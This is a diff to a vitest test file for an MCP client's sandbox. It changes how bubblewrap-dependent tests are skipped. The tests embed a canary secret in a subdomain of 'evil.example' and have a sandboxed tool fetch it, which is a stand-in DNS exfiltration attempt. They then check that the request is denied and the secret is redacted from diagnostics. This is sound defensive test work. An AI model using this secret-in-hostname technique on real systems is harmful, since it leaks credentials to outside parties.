@@ -3,28 +3,31 @@
 import { fileURLToPath } from "node:url";
 import { expect, it, onTestFinished } from "vitest";
 import { connectMcp, type Diagnostic, openWorkspace, type HubEvent } from "../src/index.ts";
-import { hasBubblewrap } from "./sandbox-helpers.ts";
+import { needs } from "./needs.ts";
 
 const SERVER = fileURLToPath(new URL("fixtures/network-server.mjs", import.meta.url));
 const SECRET = "SekretCanary1234567890";
 const url = `http://${SECRET}.evil.example/`;
-const skipped = !hasBubblewrap("secrets in names that are refused");
 
-it.skipIf(skipped)("the diagnostic of a refused name has no secret in it, nor has its hint", async () => {
-  const told: Diagnostic[] = [];
-  const mcp = await connectMcp({
-    ...{ transport: "stdio", command: process.execPath, args: [SERVER], env: { API_TOKEN: SECRET } },
-    sandbox: { mode: "enforce", network: ["allowed.example"] },
-    onDiagnostic: (one) => told.push(one),
-  });
-  onTestFinished(() => mcp.close());
-  await mcp.callTool("reach", { way: "fetch", url });
-  await expect.poll(() => told.map(({ code }) => code)).toContain("SANDBOX_DENIED");
-  expect(JSON.stringify(told)).toContain("[redacted].evil.example");
-  expect(JSON.stringify(told)).not.toMatch(/canary/i);
-});
+it(
+  "the diagnostic of a refused name has no secret in it, nor has its hint",
+  needs("bubblewrap"),
+  async () => {
+    const told: Diagnostic[] = [];
+    const mcp = await connectMcp({
+      ...{ transport: "stdio", command: process.execPath, args: [SERVER], env: { API_TOKEN: SECRET } },
+      sandbox: { mode: "enforce", network: ["allowed.example"] },
+      onDiagnostic: (one) => told.push(one),
+    });
+    onTestFinished(() => mcp.close());
+    await mcp.callTool("reach", { way: "fetch", url });
+    await expect.poll(() => told.map(({ code }) => code)).toContain("SANDBOX_DENIED");
+    expect(JSON.stringify(told)).toContain("[redacted].evil.example");
+    expect(JSON.stringify(told)).not.toMatch(/canary/i);
+  },
+);
 
-it.skipIf(skipped)("neither has the event", async () => {
+it("neither has the event", needs("bubblewrap"), async () => {
   const events: HubEvent[] = [];
   process.env.PORTOLAN_TEST_CANARY = SECRET;
   onTestFinished(() => void delete process.env.PORTOLAN_TEST_CANARY);
